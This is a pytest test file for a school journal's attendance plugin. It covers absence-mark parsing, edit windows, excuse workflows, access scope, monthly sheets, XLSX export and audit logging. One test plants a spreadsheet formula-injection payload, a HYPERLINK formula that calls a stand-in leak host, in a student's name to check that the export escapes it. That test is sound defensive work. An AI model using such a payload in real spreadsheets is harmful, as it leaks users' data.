"""Attendance: the hours arithmetic, marks in the grid within the edit window, reasons over
ranges, parents' reports, the curator's decisions, lessons not marked on the day, the monthly
sheet and its XLSX, scope and the grid's query count."""

from __future__ import annotations

import re
from datetime import timedelta
from functools import partial
from io import BytesIO

import pytest
from sqlalchemy import func, select

from core.auth.passwords import hash_password
from core.errors import DomainError
from core.extensions import db
from core.people.models import Group, Guardian, RoleAssignment, Student, StudentGuardian, User
from core.people.roles import ROLE_SCOPE, Role
from plugins.attendance import rules, services
from plugins.attendance.models import Absence, AbsenceHistory, Excuse, Taken
from plugins.grading.tests.world import PASSWORD, build, noon
from plugins.journal import api as journal
from tests.concurrency import cell_of as cell
from tests.concurrency import save_committed
from tests.fixtures import count_queries, signed_in

PETROV, SMIRNOVA, KUZNETSOV, FEDOROVA = range(4)
TODAY = 11


def _person(login: str, role: Role, last: str) -> User:
    user = User(login=login, password_hash=hash_password(PASSWORD), last_name=last,
                first_name="Елена", middle_name="Ивановна")
    user.roles.append(RoleAssignment(role=role, scope_kind=ROLE_SCOPE[role], scope_id=None))
    db.session.add(user)
    return user


@pytest.fixture
def world(app):
    """The grading world, with a curator of ИСП-21 and two families: Петров's and Кузнецов's."""
    made = build(app, prefix="at")
    with app.app_context():
        curator = _person("at.curator", Role.CURATOR, "Кураторова")
        families = {}
        for index, key in ((PETROV, "parent"), (KUZNETSOV, "other_parent")):
            parent = _person(f"at.{key}", Role.PARENT, f"Родителева{index}")
            db.session.flush()
            guardian = Guardian(last_name=parent.last_name, first_name="Елена", user_id=parent.id)
            db.session.add(guardian)
            db.session.flush()
            db.session.add(StudentGuardian(student_id=made.students[index],
                                           guardian_id=guardian.id))
            families[key] = parent
        db.session.flush()
        db.session.get(Group, made.ids["g1"]).curator_id = curator.id
        db.session.commit()
        for user in (curator, *families.values()):
            _ = user.roles
        made.users.update(curator=curator, **families)
    return made


#: ``save(app, world, who, cells, at=None)``: through the service; committed when saved
save = partial(save_committed, services)


def fill(app, world, who, cells):
    """Mark ``cells`` as ``who`` on each lesson's own day, inside the edit window."""
    for change in cells:
        save(app, world, who, [change], at=noon(world.dates[world.lessons.index(
            change["lesson_id"])]))


def absences(app) -> list[tuple[int, str, int, int, str]]:
    with app.app_context():
        return [tuple(row) for row in db.session.execute(
            select(Absence.lesson_id, Absence.kind, Absence.hours, Absence.minutes, Absence.reason)
            .order_by(Absence.lesson_id, Absence.student_id)).all()]


# --- the arithmetic ---------------------------------------------------------------------------


@pytest.mark.parametrize(("raw", "lesson_hours", "kind", "hours", "minutes"), [
    ("н", 2, "absent", 2, 0), ("н", 1, "absent", 1, 0), ("н1", 2, "absent", 1, 0),
    ("Н2", 2, "absent", 2, 0), ("n", 2, "absent", 2, 0), ("оп10", 2, "late", 0, 10),
    ("о5", 2, "late", 0, 5), ("op15", 2, "late", 0, 15), ("", 2, "", 0, 0), (" ", 2, "", 0, 0),
])
def test_cells_parse_into_hours_and_minutes(ctx, raw, lesson_hours, kind, hours, minutes):
    parsed = rules.parse(raw, lesson_hours)
    assert (parsed.kind, parsed.hours, parsed.minutes) == (kind, hours, minutes)


@pytest.mark.parametrize(("raw", "lesson_hours"), [
    ("н2", 1), ("н3", 2), ("н0", 2), ("оп0", 2), ("оп91", 2), ("x", 2), ("5", 2), ("нн", 2),
])
def test_bad_cells_are_refused_in_russian(ctx, raw, lesson_hours):
    with pytest.raises(rules.InvalidValue) as refused:
        rules.parse(raw, lesson_hours)
    assert re.search("[а-я]", refused.value.message)


def test_a_partial_absence_counts_its_hours_and_lateness_counts_none(app, world):
    save(app, world, "teacher", [cell(world, TODAY, PETROV, "н1"), cell(world, TODAY, KUZNETSOV, "н"),
                                 cell(world, TODAY, FEDOROVA, "оп10")])
    with app.app_context():
        day = world.dates[TODAY]
        found = services.details(world.students, day, day)
        tallies = services.tallies(found)
    assert tallies[world.students[PETROV]].total == 1
    assert tallies[world.students[KUZNETSOV]].total == 2
    assert tallies[world.students[FEDOROVA]].total == 0
    assert tallies[world.students[FEDOROVA]].late == 1
    texts = {(r.student_id, r.text) for r in found}
    assert (world.students[PETROV], "н1") in texts and (world.students[FEDOROVA], "оп10") in texts


# --- the grid ---------------------------------------------------------------------------------


def test_the_teacher_marks_today_through_the_grid_and_it_is_recorded(app, world):
    client = signed_in(app, world.users["teacher"])
    response = client.post(f"/journal/load/{world.ids['load']}/cells/attendance", json={"cells": [
        cell(world, TODAY, PETROV, "н"), cell(world, TODAY, KUZNETSOV, "оп5")]})
    assert response.status_code == 200, response.get_json()
    assert [c["value"] for c in response.get_json()["cells"]] == ["н", "оп5"]
    page = client.get(f"/journal/load/{world.ids['load']}").get_data(as_text=True)
    assert f'name="cell-attendance-{world.lessons[TODAY]}-{world.students[PETROV]}-1-н"' in page
    assert "Пропущено, ч" in page
    with app.app_context():
        assert db.session.get(Taken, world.lessons[TODAY]) is not None
        assert db.session.scalar(select(func.count()).select_from(AbsenceHistory)) == 2
    cleared = client.post(f"/journal/load/{world.ids['load']}/cells/attendance", json={"cells": [
        cell(world, TODAY, PETROV, "", 1)]})
    assert cleared.status_code == 200
    assert absences(app)[0][1] == ""  # the row stays, emptied; its history keeps both changes


def test_marking_an_absence_raises_absence_marked(app, world):
    with app.test_request_context():
        user = db.session.get(User, world.users["teacher"].id)
        services.save_cells(journal.get_load(world.ids["load"]), user,
                            [cell(world, TODAY, PETROV, "н"), cell(world, TODAY, KUZNETSOV, "оп5")])
        seen = [e.name for e in db.session.info.get("ejournal.events.queued", [])]
        db.session.rollback()
    assert seen == ["absence.marked"]


def test_all_present_records_the_lesson_from_the_grid(app, world):
    client = signed_in(app, world.users["teacher"])
    page = client.get(f"/journal/load/{world.ids['load']}").get_data(as_text=True)
    action = f"/attendance/lessons/{world.lessons[TODAY]}/present"
    assert f'formaction="{action}"' in page
    done = client.post(action, follow_redirects=True)
    assert "Посещаемость занятия" in done.get_data(as_text=True)
    with app.app_context():
        assert db.session.get(Taken, world.lessons[TODAY]) is not None
    past = f"/attendance/lessons/{world.lessons[0]}/present"
    assert "Срок заполнения" in client.post(past, follow_redirects=True).get_data(as_text=True)


def test_bad_values_and_strangers_leave_nothing_saved(app, world):
    client = signed_in(app, world.users["teacher"])
    url = f"/journal/load/{world.ids['load']}/cells/attendance"
    bad = client.post(url, json={"cells": [cell(world, TODAY, PETROV, "н"),
                                           cell(world, TODAY, KUZNETSOV, "н5")]})
    assert bad.status_code == 422 and bad.get_json()["cells"][0]["student_id"] == world.students[
        KUZNETSOV]
    moved = client.post(url, json={"cells": [cell(world, TODAY, SMIRNOVA, "н")]})
    assert moved.status_code == 404  # she left the group before today's lesson
    foreign = client.post(url, json={"cells": [{"lesson_id": world.ids["other_lesson"],
                                                "student_id": world.students[PETROV],
                                                "value": "н", "version": None}]})
    assert foreign.status_code == 404
    assert signed_in(app, world.users["other"]).post(url, json={"cells": [
        cell(world, TODAY, PETROV, "н")]}).status_code == 404
    assert client.post(url, data="not json").status_code == 400
    assert absences(app) == []


def test_after_the_window_the_teacher_cannot_mark_but_a_stale_edit_is_a_409(app, world):
    with pytest.raises(DomainError) as late:
        save(app, world, "teacher", [cell(world, 3, PETROV, "н")])
    assert late.value.status == 409
    save(app, world, "teacher", [cell(world, TODAY, PETROV, "н")])
    with pytest.raises(DomainError) as stale:
        save(app, world, "teacher", [cell(world, TODAY, PETROV, "н1")])  # saw an empty cell
    assert stale.value.status == 409
    assert stale.value.details["cells"][0]["current"]["value"] == "н"
    with pytest.raises(DomainError) as admin:  # the administrator too: a correction it is
        save(app, world, "admin", [cell(world, 3, PETROV, "н")])
    assert admin.value.status == 409 and "заявку на исправление" in admin.value.message


def test_attendance_adds_exactly_two_queries_to_the_grid(app, world):
    """Its cells and its column share one read, the pending corrections are the other (the
    whole grid's count is constant: see the journal's tests, which run with every plugin)."""
    from plugins.attendance import grid

    fill(app, world, "admin", [cell(world, TODAY, PETROV, "н"), cell(world, 3, PETROV, "н")])
    with app.test_request_context():
        user = db.session.get(User, world.users["teacher"].id)
        load = journal.get_load(world.ids["load"])
        lessons, students = journal.lessons(load), journal.roster(load)
        services.policy_value("journal.edit_grace_days")  # the page has read the policy already
        with count_queries(app) as counter:
            grid.cells(load, lessons, students, user)
            grid.columns(load, students, user)
        assert counter.count == 2


# --- reasons ----------------------------------------------------------------------------------


def test_a_reason_over_a_range_covers_exactly_the_lessons_in_it(app, world):
    for index in (8, 9, 10):
        fill(app, world, "admin", [cell(world, index, PETROV, "н")])
    client = signed_in(app, world.users["curator"])
    group = world.ids["g1"]
    response = client.post(f"/attendance/groups/{group}/reason", data={
        "student_id": str(world.students[PETROV]), "date_from": world.dates[9].isoformat(),
        "date_to": world.dates[10].isoformat(), "reason": "illness",
        "document": "Справка № 15 от 20.11.2026", "comment": ""}, follow_redirects=True)
    assert "Причина записана: занятий — 2" in response.get_data(as_text=True)
    assert [row[4] for row in absences(app)] == ["", "illness", "illness"]
    # an absence marked later inside the range takes the reason at once
    with app.app_context():
        excuse = db.session.scalar(select(Excuse))
        excuse.date_to = world.dates[TODAY]
        db.session.commit()
    save(app, world, "teacher", [cell(world, TODAY, PETROV, "н")])
    assert absences(app)[-1][4] == "illness"
    week = client.get(f"/attendance/groups/{group}/week?start={world.dates[9].isoformat()}")
    assert week.status_code == 200 and " <b>Б</b>" in week.get_data(as_text=True)
    day = world.dates[9]  # the days are headed in Russian, not in the server's locale
    heading = ("пн", "вт", "ср", "чт", "пт", "сб", "вс")[day.weekday()]
    assert f"{heading} {day:%d.%m}" in week.get_data(as_text=True)


def test_only_the_groups_curator_or_the_administration_sets_reasons(app, world):
    data = {"student_id": str(world.students[PETROV]), "date_from": world.dates[0].isoformat(),
            "date_to": world.dates[1].isoformat(), "reason": "valid"}
    group = world.ids["g1"]
    assert signed_in(app, world.users["teacher"]).post(
        f"/attendance/groups/{group}/reason", data=data).status_code == 404
    assert signed_in(app, world.users["parent"]).post(
        f"/attendance/groups/{group}/reason", data=data).status_code == 404
    bad = signed_in(app, world.users["curator"]).post(f"/attendance/groups/{group}/reason", data={
        **data, "date_to": (world.dates[0] - timedelta(days=1)).isoformat()})
    assert bad.status_code == 422 and "раньше даты начала" in bad.get_data(as_text=True)
    assert signed_in(app, world.users["deputy"]).post(
        f"/attendance/groups/{group}/reason", data=data).status_code == 302


def test_a_parents_report_reaches_the_curator_and_the_answer_comes_back(app, world):
    fill(app, world, "admin", [cell(world, 10, PETROV, "н")])
    parent = signed_in(app, world.users["parent"])
    page = f"/attendance/students/{world.students[PETROV]}"
    sent = parent.post(page, data={"date_from": world.dates[10].isoformat(),
                                   "date_to": world.dates[10].isoformat(), "reason": "illness",
                                   "comment": "Температура, был у врача"}, follow_redirects=True)
    assert "Сообщение отправлено. Причину рассмотрит классный руководитель." in sent.get_data(as_text=True)
    curator = signed_in(app, world.users["curator"])
    week = curator.get(f"/attendance/groups/{world.ids['g1']}/week?start="
                       f"{world.dates[10].isoformat()}").get_data(as_text=True)
    assert "Температура, был у врача" in week
    home = curator.get("/").get_data(as_text=True)  # the home page and the menu count it
    assert "Сообщения родителей о пропусках: 1" in home and "Температура, был у врача" in home
    assert re.search(r"Посещаемость\s*<span[^>]*badge[^>]*>\s*1\s*<", home)
    with app.app_context():
        excuse_id = db.session.scalar(select(Excuse.id).where(Excuse.status == "pending"))
    no_reason = curator.post(f"/attendance/excuses/{excuse_id}/decide",
                             data={"decision": "reject", "comment": ""}, follow_redirects=True)
    assert "почему причина не принята" in no_reason.get_data(as_text=True)
    curator.post(f"/attendance/excuses/{excuse_id}/decide",
                 data={"decision": "reject", "comment": "Нужна справка от врача"})
    answered = parent.get(page).get_data(as_text=True)
    assert "Нужна справка от врача" in answered and "не принята" in answered
    assert absences(app)[0][4] == ""  # rejected: the absence stays without a reason
    second = parent.post(page, data={"date_from": world.dates[10].isoformat(),
                                     "date_to": world.dates[10].isoformat(), "reason": "illness",
                                     "comment": "Справка № 7 передана"})
    assert second.status_code == 302
    with app.app_context():
        excuse_id = db.session.scalar(select(Excuse.id).where(Excuse.status == "pending"))
    curator.post(f"/attendance/excuses/{excuse_id}/decide", data={"decision": "accept"})
    assert absences(app)[0][4] == "illness"
    home = curator.get("/").get_data(as_text=True)  # answered: nothing waits
    assert "Сообщения родителей о пропусках" not in home


def test_a_family_cannot_call_its_own_reason_unexcused(app, world):
    fill(app, world, "admin", [cell(world, 10, PETROV, "н")])
    parent = signed_in(app, world.users["parent"])
    page = f"/attendance/students/{world.students[PETROV]}"
    assert 'value="invalid"' not in parent.get(page).get_data(as_text=True)
    refused = parent.post(page, data={"date_from": world.dates[10].isoformat(),
                                      "date_to": world.dates[10].isoformat(), "reason": "invalid",
                                      "comment": "Проспал"})
    assert refused.status_code == 422 and "Неверный вариант" in refused.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Excuse)) == 0


def test_a_parent_sees_and_reports_only_their_own_child(app, world):
    parent = signed_in(app, world.users["parent"])
    theirs = f"/attendance/students/{world.students[KUZNETSOV]}"
    assert parent.get(theirs).status_code == 404
    assert parent.post(theirs, data={"date_from": world.dates[0].isoformat(),
                                     "date_to": world.dates[0].isoformat(), "reason": "valid",
                                     "comment": "x"}).status_code == 404
    assert parent.get(f"/attendance/students/{world.students[PETROV]}").status_code == 200
    assert signed_in(app, world.users["student_user"]).get(theirs).status_code == 404
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Excuse)) == 0


# --- control and sheets -----------------------------------------------------------------------


def test_lessons_not_marked_on_the_day_are_found(app, world):
    from plugins.attendance import corrections

    save(app, world, "admin", [cell(world, 9, PETROV, "н")], at=noon(world.dates[9]))
    later = noon(world.dates[10] + timedelta(days=1))
    with app.test_request_context():  # marked the day after: a correction
        admin, deputy = (db.session.get(User, world.users[who].id) for who in ("admin", "deputy"))
        filed = corrections.file_correction(
            admin, journal.get_load(world.ids["load"]), world.lessons[10], world.students[PETROV],
            "н", "Отметка не внесена преподавателем", at=later)
        corrections.decide_correction(deputy, filed.id, approve=True, at=later)
        db.session.commit()
    with app.app_context():
        assert db.session.get(Taken, world.lessons[10]).by_id == world.users["admin"].id
        found = {row.lesson_id for row in services.not_marked_on_the_day(
            world.dates[8], world.dates[10], {world.ids["g1"]})}
    assert found == {world.lessons[8], world.lessons[10]}
    page = signed_in(app, world.users["deputy"]).get(
        f"/attendance/unmarked?from={world.dates[8].isoformat()}&to={world.dates[10].isoformat()}")
    assert page.status_code == 200 and "ИСП-21" in page.get_data(as_text=True)
    assert signed_in(app, world.users["teacher"]).get("/attendance/unmarked").status_code == 404


def test_the_monthly_sheet_and_its_xlsx_have_the_same_totals(app, world):
    from openpyxl import load_workbook

    for index, value in ((9, "н"), (10, "н1"), (TODAY, "оп5")):
        fill(app, world, "admin", [cell(world, index, PETROV, value)])
    fill(app, world, "admin", [cell(world, TODAY, KUZNETSOV, "н")])
    month = world.dates[TODAY].strftime("%Y-%m")
    client = signed_in(app, world.users["curator"])
    url = f"/attendance/groups/{world.ids['g1']}/month?month={month}"
    page = client.get(url).get_data(as_text=True)
    footer = re.search(r"<tfoot>(.*?)</tfoot>", page, re.S)[1]
    page_totals = [int(n) for n in re.findall(r"<th>(\d+)</th>", footer)]
    book = load_workbook(BytesIO(client.get(url + "&format=xlsx").data))
    last = list(book.active.iter_rows(values_only=True))[-1]
    assert last[0] == "Итого"
    assert list(last[-6:]) == page_totals
    with app.app_context():
        from plugins.attendance.views import sheet_data

        with app.test_request_context():
            data = sheet_data(world.ids["g1"], world.dates[TODAY].replace(day=1))
    assert page_totals[0] == data["totals"]["total"] == sum(
        hours for row in data["rows"] for hours in row["days"])


def test_a_students_name_in_the_monthly_xlsx_is_text_not_a_formula(app, world):
    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://evil.example/?leak","Петров")'
    with app.app_context():
        db.session.get(Student, world.students[PETROV]).last_name = hostile
        db.session.get(Student, world.students[KUZNETSOV]).last_name = "\r=1"
        db.session.commit()
    fill(app, world, "admin", [cell(world, TODAY, PETROV, "н")])
    month = world.dates[TODAY].strftime("%Y-%m")
    content = signed_in(app, world.users["curator"]).get(
        f"/attendance/groups/{world.ids['g1']}/month?month={month}&format=xlsx").data
    rows = list(load_workbook(BytesIO(content)).active.iter_rows())
    names = {row[0].value: row for row in rows[2:]}
    petrov = next(row for name, row in names.items() if name.startswith("'=HYPERLINK("))
    assert petrov[0].data_type == "s"
    assert next(name for name in names if name.startswith("'\r=1"))
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
    hours = [c.value for c in petrov[1:] if c.value is not None]
    assert hours and all(isinstance(value, int) for value in hours)  # numbers stay numbers


def test_a_transferred_students_absences_stay_in_the_old_groups_sheet(app, world):
    fill(app, world, "admin", [cell(world, 2, SMIRNOVA, "н")])
    with app.app_context():
        day = world.dates[2]
        in_old = services.details([world.students[SMIRNOVA]], day, day, group_id=world.ids["g1"])
        in_new = services.details([world.students[SMIRNOVA]], day, day, group_id=world.ids["g2"])
    assert len(in_old) == 1 and in_new == []


def test_chronic_absentees_by_the_policy_threshold(app, world):
    with app.app_context():
        threshold = services.policy_value("attendance.chronic_hours_per_month")
    rows = [services.AbsenceDetail(7, world.dates[0], 1, "ОП", "absent", 2, 0, 2, "", 1)
            for _ in range(threshold // 2)]
    excused = [services.AbsenceDetail(8, world.dates[0], 1, "ОП", "absent", 2, 0, 2, "illness", 1)
               for _ in range(threshold)]
    with app.app_context():
        assert services.chronic(rows + excused) == {7}
        assert services.chronic(rows[:-1]) == set()


# --- after the day (issue #13; the corrections themselves: test_corrections.py) ----------------


def test_a_lesson_still_to_come_offers_no_correction(app, world):
    the_day_before = noon(world.dates[TODAY] - timedelta(days=1))
    with pytest.raises(DomainError) as early:
        save(app, world, "admin", [cell(world, TODAY, PETROV, "н")], at=the_day_before)
    assert early.value.status == 409 and "ещё не проведено" in early.value.message
    assert "correction_url" not in early.value.details["cells"][0]


# --- least privilege (issue #14 item 9) ----------------------------------------------------------


def test_the_decision_on_another_groups_students_excuse_is_404(app, world):
    """Смирнова is in ИСП-22 by then: ИСП-21's curator neither decides nor learns her group."""
    day = world.transfer_day + timedelta(days=1)
    with app.app_context():
        excuse = Excuse(student_id=world.students[SMIRNOVA], date_from=day, date_to=day,
                        reason="illness", source="parent", status="pending",
                        created_by_id=world.users["admin"].id)
        db.session.add(excuse)
        db.session.commit()
        excuse_id = excuse.id
    url = f"/attendance/excuses/{excuse_id}/decide"
    for who in ("curator", "parent", "teacher"):
        refused = signed_in(app, world.users[who]).post(url, data={"decision": "accept"})
        assert refused.status_code == 404, who
        assert f"/groups/{world.ids['g2']}/" not in refused.headers.get("Location", "")
    with app.app_context():
        assert db.session.get(Excuse, excuse_id).status == "pending"
    decided = signed_in(app, world.users["deputy"]).post(url, data={"decision": "accept"})
    assert decided.status_code == 302
    assert f"/attendance/groups/{world.ids['g2']}/week" in decided.headers["Location"]


def test_each_xlsx_of_the_monthly_sheet_leaves_one_audit_row(app, world):
    from core.audit import AuditEntry

    month = world.dates[TODAY].strftime("%Y-%m")
    client = signed_in(app, world.users["curator"])
    url = f"/attendance/groups/{world.ids['g1']}/month?month={month}"
    assert client.get(url).status_code == 200  # the sheet on screen is not an export
    for _ in range(2):
        assert client.get(url + "&format=xlsx").status_code == 200
    with app.app_context():
        rows = db.session.execute(select(AuditEntry.actor_login, AuditEntry.target_id,
                                         AuditEntry.after).where(
            AuditEntry.action == "attendance.month.export")).all()
    with app.test_request_context():
        from plugins.attendance.views import sheet_data

        shown = len(sheet_data(world.ids["g1"], world.dates[TODAY].replace(day=1))["rows"])
    assert [(login, target) for login, target, _after in rows] == [
        (world.users["curator"].login, str(world.ids["g1"]))] * 2
    assert rows[0][2] == {"month": month, "format": "xlsx", "count": shown} and shown
